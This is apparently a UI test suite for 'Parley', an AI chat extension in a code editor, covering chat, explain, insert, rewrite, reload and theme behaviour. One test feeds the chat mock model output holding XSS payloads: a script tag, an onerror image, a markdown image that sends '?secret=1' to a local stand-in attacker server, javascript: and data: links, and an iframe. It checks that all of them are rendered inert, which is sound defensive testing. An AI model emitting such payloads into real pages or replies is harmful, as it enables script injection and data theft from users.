import * as assert from 'assert';
import * as http from 'http';
import * as path from 'path';
import { textReply } from '../server/chatServer';
import {
  chatFrame,
  editorText,
  pickTheme,
  openFile,
  openWorkbench,
  runCommand,
  screenshotIfFailed,
  SCREENSHOTS,
  waitForParley,
  type Workbench,
} from './workbench';

/** Parley driven through the workbench as a person would: palette, context menu, clicks. */
describe('Parley in the workbench (UI)', function () {
  this.timeout(180_000);
  let wb: Workbench;
  before(async () => {
    wb = await openWorkbench();
  });
  after(async () => {
    await wb?.close();
  });
  afterEach(function () {
    return screenshotIfFailed(this, wb?.page, 'jobs');
  });

  it('opens the chat view from the Command Palette', async () => {
    await runCommand(wb.page, 'Parley: Open Chat');
    const frame = chatFrame(wb.page);
    await frame.locator('#input').waitFor({ state: 'visible', timeout: 30_000 });
    assert.strictEqual(await frame.locator('#profile').textContent(), 'Local test server · test-model');
    await wb.page.screenshot({ path: path.join(SCREENSHOTS, 'chat-view.png') });
  });

  it('explains a selection from the editor context menu and streams the answer into the view', async () => {
    const { page, server } = wb;
    server.enqueue(
      textReply(
        '`fib` computes the **n-th Fibonacci number** recursively:\n\n```ts\nexport function fib(n: number): number {\n  return n < 2 ? n : fib(n - 1) + fib(n - 2);\n}\n```\n\nIt runs in exponential time; memoise it for large `n`.',
        { delayMs: 15 },
      ),
    );
    await openFile(page, 'src/math.ts');
    const line = page.locator('.editor-instance .view-line', { hasText: 'export function fib' });
    await line.click();
    await page.keyboard.press('Home');
    for (let i = 0; i < 4; i++) await page.keyboard.press('Shift+ArrowDown');
    await line.click({ button: 'right' });
    const item = page.locator('.context-view .action-item', { hasText: 'Explain Selection' });
    await item.waitFor({ state: 'visible' });
    await item.click();
    // A synthetic click now and then only highlights the entry and the menu stays open (seen in a
    // fresh-clone run): Enter runs the highlighted entry, as a person would press it.
    const menu = page.locator('.context-view .monaco-menu').first();
    if (
      !(await menu.waitFor({ state: 'detached', timeout: 3_000 }).then(
        () => true,
        () => false,
      ))
    ) {
      await item.hover();
      await page.keyboard.press('Enter');
      await menu.waitFor({ state: 'detached', timeout: 5_000 });
    }
    const frame = chatFrame(page);
    const reply = frame.locator('.message.assistant').last();
    await reply.locator('.code-block').waitFor({ timeout: 30_000 });
    await frame.locator('.message.assistant.streaming').waitFor({ state: 'detached', timeout: 30_000 });
    assert.match((await reply.textContent()) ?? '', /Fibonacci number/);
    const sent = server.requests[server.requests.length - 1].body.messages.at(-1).content as string;
    assert.match(sent, /typescript code from `src\/math\.ts`/);
    assert.match(sent, /export function fib\(n: number\): number \{\n {2}if \(n < 2\) return n;/);
    await page.screenshot({ path: path.join(SCREENSHOTS, 'explain-dark.png') });
  });

  it('Insert on a code block puts the code at the cursor', async () => {
    const { page } = wb;
    await page.locator('.editor-instance .view-line', { hasText: '// Small helpers' }).click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('Enter');
    await page.keyboard.press('ArrowUp');
    const frame = chatFrame(page);
    await frame.locator('.message.assistant').last().locator('button.code-action[data-action="insert"]').click();
    await page.waitForFunction(
      () =>
        document
          .querySelector('.editor-instance .view-lines')
          ?.textContent?.replace(/\u00a0/g, ' ')
          .includes('return n < 2 ? n'),
      undefined,
      { timeout: 15_000 },
    );
    assert.match(await editorText(page), /return n < 2 \? n : fib\(n - 1\) \+ fib\(n - 2\);/);
  });

  it('rewrites a selection from the Command Palette: streamed into the editor, accepted with Ctrl+Enter', async () => {
    const { page, server } = wb;
    server.enqueue(
      textReply('```ts\n/** Adds two numbers. */\nexport function add(a: number, b: number): number {\n  return a + b;\n}\n```', {
        delayMs: 40,
      }),
    );
    const line = page.locator('.editor-instance .view-line', { hasText: 'export function add' });
    await line.click();
    await page.keyboard.press('Home');
    await page.keyboard.press('Home');
    for (let i = 0; i < 3; i++) await page.keyboard.press('Shift+ArrowDown');
    await runCommand(page, 'Parley: Rewrite Selection');
    const input = page.locator('.quick-input-widget input');
    await page.locator('.quick-input-widget .quick-input-title', { hasText: 'Rewrite Selection' }).waitFor();
    await input.pressSequentially('Add a doc comment', { delay: 10 });
    await input.press('Enter');
    await page.locator('.codelens-decoration', { hasText: 'Accept' }).waitFor({ timeout: 30_000 });
    assert.match(await editorText(page), /\/\*\* Adds two numbers\. \*\/\nexport function add\(a: number, b: number\): number \{/);
    await page.screenshot({ path: path.join(SCREENSHOTS, 'rewrite-pending.png') });
    await page.locator('.editor-instance .view-line', { hasText: 'Adds two numbers' }).click();
    await page.keyboard.press('Control+Enter');
    await page.locator('.codelens-decoration', { hasText: 'Accept' }).waitFor({ state: 'detached', timeout: 15_000 });
    const text = await editorText(page);
    assert.match(text, /\/\*\* Adds two numbers\. \*\/\nexport function add\(a: number, b: number\): number \{\n {2}return a \+ b;\n\}/);
    assert.strictEqual(text.match(/export function add/g)?.length, 1, 'the original was replaced, not duplicated');
    const sent = server.requests[server.requests.length - 1].body.messages.at(-1).content as string;
    assert.match(sent, /Add a doc comment/);
  });

  it('renders hostile model output inert: no script, no handlers, no javascript: links, no remote image', async () => {
    const { page, server } = wb;
    const attackerHits: string[] = [];
    const attacker = http.createServer((req, res) => {
      attackerHits.push(req.url ?? '');
      res.end('x');
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    const port = (attacker.address() as import('net').AddressInfo).port;
    try {
      server.enqueue(
        textReply(
          [
            'Safe text.',
            '<script>window.parent.postMessage("pwned","*")</script>',
            `<img src="http://127.0.0.1:${port}/raw.png" onerror="document.title='pwned'">`,
            `![exfil](http://127.0.0.1:${port}/md.png?secret=1)`,
            '[click me](javascript:alert(1)) and [data](data:text/html,<b>x</b>)',
            `<iframe src="http://127.0.0.1:${port}/frame"></iframe>`,
            'Done.',
          ].join('\n\n'),
        ),
      );
      const frame = chatFrame(page);
      await frame.locator('#input').fill('show me something nasty');
      await frame.locator('#input').press('Enter');
      const reply = frame.locator('.message.assistant').last();
      await reply.filter({ hasText: 'Done.' }).waitFor({ timeout: 30_000 });
      await frame.locator('.message.assistant.streaming').waitFor({ state: 'detached', timeout: 30_000 });
      const body = reply.locator('.message-body');
      assert.strictEqual(await body.locator('script, img, iframe, [onerror]').count(), 0);
      assert.strictEqual(await body.locator('a[href], a[data-href^="javascript:"], a[data-href^="data:"]').count(), 0);
      assert.match((await body.textContent()) ?? '', /\[image: exfil\]/);
      await page.waitForTimeout(500);
      assert.deepStrictEqual(attackerHits, [], 'nothing reached the attacker server');
    } finally {
      attacker.close();
    }
  });

  it('the conversation survives a window reload', async () => {
    const { page } = wb;
    await page.reload();
    await waitForParley(page);
    await runCommand(page, 'Parley: Open Chat');
    const frame = chatFrame(page);
    await frame.locator('.message.user', { hasText: 'show me something nasty' }).waitFor({ timeout: 30_000 });
    assert.ok((await frame.locator('.message.assistant').count()) >= 2);
  });

  it('follows a light theme', async () => {
    const { page } = wb;
    await pickTheme(page, 'Light Modern');
    await page.waitForSelector('.monaco-workbench.vs:not(.vs-dark)', { timeout: 30_000 });
    const frame = chatFrame(page);
    await frame.locator('.message.assistant').last().scrollIntoViewIfNeeded();
    await page.waitForTimeout(500);
    await page.screenshot({ path: path.join(SCREENSHOTS, 'chat-light.png') });
    const bg = await frame.locator('body').evaluate((b) => getComputedStyle(b).backgroundColor);
    assert.notStrictEqual(bg, 'rgba(0, 0, 0, 0)');
    await pickTheme(page, 'Dark Modern');
  });
});
